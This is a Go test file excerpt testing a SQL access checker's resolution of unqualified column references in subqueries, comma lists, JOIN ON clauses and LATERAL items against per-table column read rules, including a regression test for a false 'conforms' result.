func TestFunctionInFromResolvesLeftSiblingsFirst(t *testing.T) {
	t.Parallel()
	cat := corpusCatalog(t)
	customers, orders := TableName{"public", "customers"}, TableName{"public", "orders"}
	rules := []Rule{
		{Index: 0, Op: OpSelect, Table: customers, Columns: []string{"id", "updated_at"}},
		{Index: 1, Op: OpSelect, Table: orders, Columns: []string{"id"}},
	}
	for _, sql := range []string{
		"SELECT c.id, (SELECT u FROM orders o, unnest(ARRAY[updated_at]) u WHERE o.id = c.id) FROM customers c",
		"SELECT c.id, (SELECT u FROM orders o CROSS JOIN unnest(ARRAY[updated_at]) u WHERE o.id = c.id) FROM customers c",
		"SELECT c.id, (SELECT u FROM orders o JOIN unnest(ARRAY[updated_at]) u ON true WHERE o.id = c.id) FROM customers c",
		"SELECT c.id, (SELECT u FROM orders o, LATERAL unnest(ARRAY[updated_at]) u WHERE o.id = c.id) FROM customers c",
		"SELECT c.id, (SELECT u FROM orders o, ROWS FROM (unnest(ARRAY[updated_at])) u WHERE o.id = c.id) FROM customers c",
	} {
		d := checkSQL(cat, sql, rules)
		if d.Outcome != Refer || !d.HasCode(CodeColumnNotReadable) {
			t.Errorf("%s: %s %v, want refer: updated_at is the sibling orders'", sql, d.Outcome, d.ReasonStrings())
		}
		if d.Facts == nil || !slices.Contains(d.Facts.Reads[orders], "updated_at") {
			t.Errorf("%s: reads %v, want orders.updated_at among them", sql, d.Facts.Reads)
		}
	}
	// An outer column the siblings lack still resolves outward.
	d := checkSQL(cat, "SELECT c.id, (SELECT u FROM orders o, unnest(ARRAY[c.updated_at]) u WHERE o.id = c.id) FROM customers c", rules)
	if d.Outcome != Conforms {
		t.Errorf("outer reference: %s %v", d.Outcome, d.ReasonStrings())
	}
}

// TestJoinOnSeesOnlyItsInputs is the regression test for a false conforms:
// the ON clause of a join sees the join's own inputs and the outer levels,
// not the FROM items before the join in a comma list. PostgreSQL resolves
// updated_at below to the outer customers.updated_at (not readable); the
// walker used to credit it to the comma sibling orders a (readable).
func TestJoinOnSeesOnlyItsInputs(t *testing.T) {
	t.Parallel()
	cat := corpusCatalog(t)
	customers, orders, notes := TableName{"public", "customers"}, TableName{"public", "orders"}, TableName{"public", "audit_notes"}
	rules := []Rule{
		{Index: 0, Op: OpSelect, Table: customers, Columns: []string{"id"}},
		{Index: 1, Op: OpSelect, Table: orders, Columns: []string{"id", "updated_at"}},
		{Index: 2, Op: OpSelect, Table: notes, Columns: []string{"body", "id", "order_id"}},
	}
	for _, sql := range []string{
		"SELECT c.id, (SELECT count(*) FROM orders a, audit_notes n JOIN audit_notes m ON updated_at < '2010-01-01') FROM customers c",
		"SELECT c.id, (SELECT count(*) FROM orders a, audit_notes n JOIN audit_notes m ON n.id = m.id AND updated_at < '2010-01-01') FROM customers c",
		"SELECT c.id FROM customers c WHERE EXISTS (SELECT 1 FROM orders a, audit_notes n LEFT JOIN audit_notes m ON updated_at IS NULL)",
	} {
		d := checkSQL(cat, sql, rules)
		if d.Outcome != Refer || !d.HasCode(CodeColumnNotReadable) {
			t.Errorf("%s: %s %v, want refer: updated_at is the outer customers'", sql, d.Outcome, d.ReasonStrings())
		}
		if d.Facts == nil || !slices.Contains(d.Facts.Reads[customers], "updated_at") {
			t.Errorf("%s: reads %v, want customers.updated_at among them", sql, d.Facts.Reads)
		}
	}
	// Controls: ON over the join's own inputs, and a LATERAL item (which does
	// see the comma siblings before it).
	for _, sql := range []string{
		"SELECT a.id FROM orders a JOIN audit_notes n ON n.order_id = a.id AND updated_at IS NOT NULL",
		"SELECT c.id, (SELECT max(s.v) FROM orders a, audit_notes n JOIN LATERAL (SELECT updated_at AS v) s ON true) FROM customers c",
	} {
		if d := checkSQL(cat, sql, rules); d.Outcome != Conforms {
			t.Errorf("control %s: %s %v", sql, d.Outcome, d.ReasonStrings())
		}
	}
}
